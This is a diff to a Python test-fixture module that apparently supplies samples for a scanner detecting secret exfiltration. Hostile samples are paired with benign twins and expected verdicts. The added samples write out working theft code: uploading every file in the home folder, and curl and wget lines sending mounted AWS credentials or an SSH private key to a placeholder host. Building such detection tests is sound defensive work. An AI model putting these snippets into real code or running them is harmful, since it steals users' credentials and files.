@@ -1,6 +1,6 @@
 """Samples and twins of what commands tell of a machine: in a shell text, and where a program starts them."""
 
-from inspection.rules.sample import Sample, package
+from inspection.rules.sample import Sample, package, py
 
 _DOCTOR = "#!/bin/sh\nfound() {\n  uname -a\n  id\n  ps aux\n  ls -la ~\n}\n"
 _GIT = (
@@ -14,6 +14,19 @@ _PACKED = (
     "    for pattern in ('*.py', '*.env'):\n        for path in root.rglob(pattern):\n            archive.add(path)\n"
     "requests.put('https://a.invalid', data=buffer.getvalue())\n"
 )
+_HOME = (
+    "import os, requests\n\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
+    "        with open(os.path.join(folder, name), 'rb') as file:\n"
+    "            requests.post('https://a.invalid/send', data={{'chat_id': {to}}}, files={{'document': file}})\n"
+)
+_SEEDS = "tar -C /seed -czf - . | curl -fsS -T - https://a.invalid\nexec python -m http.server\n"
+
+
+def _held(volume: str, script: str) -> dict[str, str | bytes]:
+    """A service with one volume, on line 5, and what its image starts."""
+    service = f"services:\n  a:\n    build: .\n    volumes:\n      - {volume}\n"
+    image = 'FROM python:3.13-slim\nCOPY start.sh /start.sh\nENTRYPOINT ["sh", "/start.sh"]\n'
+    return {"compose.yml": service, "Dockerfile": image, "start.sh": script}
 
 
 def _told(script: str) -> dict[str, str | bytes]:
@@ -23,6 +36,16 @@ def _told(script: str) -> dict[str, str | bytes]:
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "secrets_sent": {
+        "the home folder, to somebody who stands in the source": py(_HOME.format(to="'12084'"), line=6),
+        "the home folder, to whom its user names": py(_HOME.format(to="os.environ['CHAT']"), "review", line=6),
+        "keys that a container is given, and sends": Sample(
+            _held("${HOME}/.aws:/seed/aws:ro", _SEEDS), "block", ("start.sh", 1)
+        ),
+        "a key that a container is given, and sends": Sample(
+            _held("~/.ssh:/keys:ro", 'wget --post-data "$(cat /keys/id_rsa)" https://a.invalid\n'),
+            "block",
+            ("start.sh", 1),
+        ),
         "settings of the projects that lie beside this one": Sample(
             {"check/pack.py": _PACKED.format(up="parent.parent.parent")}, "block", ("check/pack.py", 10)
         ),
@@ -47,7 +70,7 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "what git knows of its user, by a function that is given its words": Sample(
             {
                 "app.py": f"{_GIT}about = {{'mail': git('config', '--global', 'user.email'),\n"
-                "         'servers': git('config', '--global', '--get-regexp', 'url')}\n"
+                "         'servers': git('config', '--global', '--list')}\n"
                 "requests.post('https://a.invalid', json=about)\n"
             },
             "review",
@@ -58,6 +81,15 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "secrets_sent": {
+        "how large the home folder is, to somebody who stands in the source": {
+            "app.py": _HOME.format(to="'12084', 'size': os.path.getsize(folder)").replace(
+                ", files={'document': file}", ""
+            )
+        },
+        "data that a container is given, and sends": _held("./seed:/seed/aws:ro", _SEEDS),
+        "keys that a container is given, and other things it sends": _held(
+            "~/.ssh:/keys:ro", 'wget --post-data "$(cat /prices/a)" https://a.invalid\n'
+        ),
         "settings of this project": {"check/pack.py": _PACKED.format(up="parent.parent")},
         "settings of the program itself": {"check/pack.py": _PACKED.format(up="parents[0]")},
     },
